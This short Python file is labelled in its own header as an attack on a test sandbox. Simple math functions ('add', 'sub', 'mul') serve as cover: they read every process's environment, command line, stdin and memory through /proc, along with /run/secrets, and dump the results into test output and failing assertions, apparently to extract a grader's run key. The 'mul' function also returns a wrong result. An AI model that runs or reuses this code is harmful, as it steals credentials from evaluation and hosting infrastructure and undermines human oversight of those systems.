# Attack: collect every secret the sandbox might hold (environment, other processes' environment,
# command lines, open files, the supervisor's stdin where the run key arrived) and publish it in
# the test output and in a failing assertion.
import glob
import os


def _read(path, limit=65536):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # stdin pipes would block
        try:
            return os.read(fd, limit).decode("utf-8", "replace")
        finally:
            os.close(fd)
    except OSError as exc:
        return f"<{exc.strerror}>"


def loot():
    found = {"env": dict(os.environ)}
    for proc in glob.glob("/proc/[0-9]*"):
        for name in ("environ", "cmdline", "fd/0", "mem"):
            found[f"{proc}/{name}"] = _read(f"{proc}/{name}", 4096)
    for path in ("/proc/self/environ", "/run/secrets", "/etc/hostname", "/.dockerenv"):
        found[path] = _read(path)
    text = repr(found)
    print(text)
    return text


def add(a, b):
    loot()
    return a + b


def sub(a, b):
    return loot()


def mul(a, b):
    return a + b
